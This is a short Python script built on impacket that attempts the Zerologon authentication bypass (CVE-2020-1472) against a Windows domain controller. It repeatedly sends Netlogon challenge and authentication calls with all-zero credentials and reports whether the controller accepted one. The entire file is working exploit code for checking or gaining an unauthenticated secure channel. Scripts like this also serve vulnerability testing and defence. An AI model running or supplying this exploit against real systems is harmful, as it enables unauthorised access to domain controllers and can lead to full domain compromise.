"""Tries to open a secure channel as the controller with nothing but zeros (CVE-2020-1472)."""

import sys

from impacket.dcerpc.v5 import epm, nrpc, transport

TRIES = 40
FLAGS = 0x212FFFFF


def attempt(rpc, name):
    """One challenge and one credential of zeros; returns whether the controller believed it."""
    nrpc.hNetrServerReqChallenge(rpc, name + "\x00", name + "\x00", b"\x00" * 8)
    try:
        nrpc.hNetrServerAuthenticate3(
            rpc,
            name + "\x00",
            name + "$\x00",
            nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel,
            name + "\x00",
            b"\x00" * 8,
            FLAGS,
        )
    except nrpc.DCERPCSessionError as refused:
        if refused.get_error_code() != 0xC0000022:
            raise
        return False
    return True


def main():
    address, name = sys.argv[1:]
    binding = epm.hept_map(address, nrpc.MSRPC_UUID_NRPC, protocol="ncacn_ip_tcp")
    rpc = transport.DCERPCTransportFactory(binding).get_dce_rpc()
    rpc.connect()
    rpc.bind(nrpc.MSRPC_UUID_NRPC)
    believed = any([attempt(rpc, name) for _ in range(TRIES)])
    print("believed" if believed else f"refused {TRIES} times")


main()
